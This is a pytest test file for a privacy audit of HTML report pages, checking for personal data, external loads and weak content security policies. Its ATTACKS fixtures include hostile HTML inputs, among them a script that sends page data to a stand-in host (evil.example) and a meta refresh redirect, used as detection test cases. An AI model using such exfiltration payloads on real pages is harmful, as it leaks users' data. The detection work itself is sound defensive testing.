"""The audit of a page: personal data in any corner, addresses, the content security policy."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json

import pytest

from pipelines.privacy.page import audit_page
from pipelines.privacy.policy import Policy

CSP = "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:"


def page(body: str, csp: str | None = CSP, head: str = "") -> str:
    policy = f'<meta http-equiv="Content-Security-Policy" content="{csp}">' if csp else ""
    return (
        f"<!doctype html><html><head>{policy}{head}</head><body><h1>报告</h1>{body}</body></html>"
    )


def failed(tmp_path, html: str, **more) -> set[str]:
    path = tmp_path / "report.html"
    path.write_text(html, encoding="utf-8")
    report = audit_page(path, Policy(), **more)
    assert (report.verdict == "pass") == (report.problems == ())
    return {check.id for check in report.checks if check.status == "fail"}


def packed(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


CLEAN = [
    "<p>¥13,800,138,000 in 2024-01</p>",
    '<script type="application/json">{"y": [13800138000, 15100000000.5], "x": ["a"]}</script>',
    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M1.5.5.5.5L13800138000"/></svg>',
    '<style>.a{color:red} @media print{.b{display:none}}</style><a href="#top">up</a>',
    '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ">',
]
SPOILED = [
    ("<p>call 13800138000</p>", "PAGE-2"),
    ('<p title="li@example.com">x</p>', "PAGE-2"),
    ("<!-- li@example.com -->", "PAGE-2"),
    ("<script>var a='4111111111111111'</script>", "PAGE-2"),
    ('<script type="application/json">{"customdata": [["13800138000"]]}</script>', "PAGE-2"),
    ("<script>var z='" + packed('{"who": "li@example.com"}' + " " * 99) + "'</script>", "PAGE-2"),
    (f"<script>var z='{packed('call 13800138000 ' * 9)}'</script>", "PAGE-2"),
    ("<script>var z='H4sI" + "A" * 60 + "'</script>", "PAGE-1"),
    ('<script src="https://cdn.example.net/x.js"></script>', "PAGE-3"),
    ('<img src="//cdn.example.net/x.png">', "PAGE-3"),
    ("<style>@import url(http://example.net/x.css)</style>", "PAGE-3"),
    ("<script>fetch('wss://example.net')</script>", "PAGE-3"),
]


def test_clean_page(tmp_path):
    assert failed(tmp_path, page("".join(CLEAN))) == set()


@pytest.mark.parametrize(("body", "check"), SPOILED)
def test_spoiled_page(tmp_path, body, check):
    assert failed(tmp_path, page(body)) == {check}


@pytest.mark.parametrize(
    "csp",
    [
        None,
        "default-src 'self'",
        "default-src 'none'; img-src *",
        "default-src 'none'; img-src https:",
    ],
)
def test_policy_that_lets_something_in(tmp_path, csp):
    assert "PAGE-4" in failed(tmp_path, page("x", csp))


def test_known_library_is_not_read(tmp_path):
    library = "/* plot.js, author@example.com, https://example.net */" * 20
    html = page(f"<script>var z='{packed(library)}'</script>")
    assert failed(tmp_path, html) == {"PAGE-2", "PAGE-3"}
    known = {hashlib.sha256(library.encode()).hexdigest()}
    assert failed(tmp_path, html, known_payloads=known) == set()


def test_page_that_is_missing_empty_or_not_text(tmp_path):
    assert "PAGE-1" in failed(tmp_path, "")
    missing = audit_page(tmp_path / "none.html", Policy())
    assert missing.verdict == "fail"
    path = tmp_path / "bytes.html"
    path.write_bytes(b"\xff\xfe\x00")
    assert audit_page(path, Policy()).verdict == "fail"


@pytest.mark.parametrize(
    ("data", "check"),
    [
        ('{"customdata": [["13800138000"]]}', "PAGE-2"),
        ('{"customdata": [[13800138000]]}', "PAGE-2"),
        ('{"hovertext": ["li.lei@example.com"]}', "PAGE-2"),
        ('{"customdata": {"dtype": "f8", "bdata": "AACAKGu0CUI="}}', "PAGE-2"),
        ('{"ids": ["5f0c9a34-8d1e-4b7a-9c55-0a7be1f2d3c4"]}', "PAGE-5"),
        (json.dumps({"y": list(range(6000))}), "PAGE-5"),
    ],
    ids=["text", "number", "hover", "packed array", "pseudonym", "row-level list"],
)
def test_41_what_only_a_hover_shows(tmp_path, data, check):
    script = f'<script type="application/json">{data}</script>'
    assert failed(tmp_path, page(script)) == {check}


class _Index:
    """A leak index that knows one customer number and its md5."""

    fingerprint = "x"
    held = ("CUST-00417", hashlib.md5(b"CUST-00417").hexdigest())  # noqa: S324 - what leaks look like

    def size(self) -> int:
        return len(self.held)

    def known(self, texts: list[str]) -> list[str]:
        return [text for text in texts if text in self.held]


@pytest.mark.parametrize(
    "body",
    [
        "<p>asked by CUST-00417, twice</p>",
        '<p title="CUST-00417">x</p>',
        '<script type="application/json">{"text": ["' + _Index.held[1].upper() + '"]}</script>',
        f"<script>var z='{packed(json.dumps({'names': [_Index.held[1]]}) + ' ' * 99)}'</script>",
        "<!-- " + _Index.held[1] + " -->",
    ],
)
def test_a_customer_number_that_ingest_saw(tmp_path, body):
    assert "PAGE-7" not in failed(tmp_path, page(body))
    assert "PAGE-7" in failed(tmp_path, page(body), ids=_Index())


@pytest.mark.parametrize("spell", [bytes.hex, lambda k: k.hex().upper(), base64.b64encode])
def test_a_key_of_the_house(tmp_path, spell):
    key = hashlib.sha256(b"a key of this house").digest()
    text = spell(key)
    text = text.decode() if isinstance(text, bytes) else text
    for body in (
        f"<p>{text}</p>",
        f"<script>var z='{packed('[' + json.dumps(text) + ']')}'</script>",
    ):
        assert "PAGE-6" in failed(tmp_path, page(body), secrets=(key,))
    assert failed(tmp_path, page("<p>fine</p>"), secrets=(key,)) == set()


# Found by attacking the page after it was redrawn: each passed before.
ATTACKS = {
    "navigation without a click": (
        '<meta http-equiv="refresh" content="0;url=//evil.example/x"><p>x</p>',
        "PAGE-3",
    ),
    "refresh to itself": ('<meta http-equiv="Refresh" content="5"><p>x</p>', "PAGE-3"),
    "code that leads away": ("<p>x</p><script>location='//evil.example/?'+x</script>", "PAGE-3"),
    "a backslash for a slash": ('<a href="/\\evil.example/x">y</a>', "PAGE-3"),
    "an image within a drawing": (
        '<svg><image xlink:href="//evil.example/x.png"/></svg><p>x</p>',
        "PAGE-3",
    ),
    "a phone cut by tags": ("<p>138<b></b>0013<i></i>8000</p>", "PAGE-2"),
    "a phone cut by a remark": ("<td>138<!-- -->00138000</td>", "PAGE-2"),
    "a phone in a style": ('<p style="--x:13800138000">x</p>', "PAGE-2"),
    "an address in a style": ("<p style=\"--x:'li@example.com'\">x</p>", "PAGE-2"),
    "a card as a width": ('<img width="4111111111111111"><p>x</p>', "PAGE-2"),
    "a pseudonym in capitals": ("<p>5F0C9A34-8D1E-4B7A-9C55-0A7BE1F2D3C4</p>", "PAGE-5"),
    "a pseudonym without dashes": ("<p>5f0c9a348d1e4b7a9c550a7be1f2d3c4</p>", "PAGE-5"),
    "a pseudonym cut by a tag": ("<p>5f0c9a34-<b>8d1e-4b7a-9c55-0a7be1f2d3c4</b></p>", "PAGE-5"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_on_the_page(tmp_path, name):
    body, check = ATTACKS[name]
    assert check in failed(tmp_path, page(body))


@pytest.mark.parametrize(
    "body",
    [
        # Two figures beside one another are no phone; neither are widths and remarks in code.
        "<table><tr><td>138</td><td>00138000</td></tr></table>",
        '<div>138</div><div>00138000</div><p style="width:37.12345678901234%">x</p>',
        "<script>// evil.example is not called\nvar a = /\\d+/, b = 'a//b';</script><p>x</p>",
        '<p title="either // or">x</p><rect width="300.00000000001" height="20"/>',
        "<p>5f0c9a348d1e4b7a9c550a7be1f2d3c45f0c9a348d1e4b7a9c550a7be1f2d3c4</p>",
    ],
)
def test_what_only_looks_like_one(tmp_path, body):
    assert failed(tmp_path, page(body)) == set()
